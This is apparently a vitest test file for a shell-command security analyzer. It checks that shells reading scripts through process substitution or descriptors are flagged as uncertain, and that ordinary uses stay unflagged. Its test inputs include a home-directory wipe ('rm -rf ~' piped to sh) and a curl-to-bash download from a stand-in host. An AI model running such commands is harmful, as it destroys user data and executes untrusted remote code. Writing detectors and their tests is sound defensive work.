// A shell whose script arrives on stdin from text the analysis does not hold: never read as a bare shell.
import { beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { shellEnv } from '../testdata/shell-env';

const analysis = (command: string) => analyzeShellSync(command, shellEnv());

beforeAll(async () => {
  await loadShellParser();
});

describe('a shell reading its script from somewhere unseen is uncertain', () => {
  it.each([
    ['an output process substitution runs the outer output', 'printf \'%s\' "$X" > >(sh)'],
    ['an output process substitution of a listing', 'ls > >(bash)'],
    ['an input process substitution as stdin', 'sh < <(cat cmds.txt)'],
    ['a duplicated descriptor', 'exec 3< cmds.txt; bash <&3'],
    ['a variable as the stdin file', 'bash < "$SCRIPT"'],
  ])('%s', (_name, command) => {
    expect(analysis(command).uncertain.map((u) => u.code)).toContain('dynamic-script');
  });

  it('the literal text written into an output process substitution still reaches the floor', () => {
    const a = analysis("echo 'rm -rf ~' > >(sh)");
    expect(a.uncertain.map((u) => u.code)).toContain('dynamic-script');
  });

  it('network text piped through an input process substitution is remote code execution', () => {
    expect(analysis('bash < <(curl -s https://x.example/i.sh)').hits.map((h) => h.category)).toContain(
      'remote_code_execution',
    );
  });
});

describe('ordinary process substitution stays quiet', () => {
  it.each([
    ['diff of two listings', 'diff <(ls a) <(ls b)'],
    ['tee into a counter', 'ls | tee >(wc -l)'],
  ])('%s', (_name, command) => {
    expect(analysis(command).uncertain.map((u) => u.code)).not.toContain('dynamic-script');
  });
});
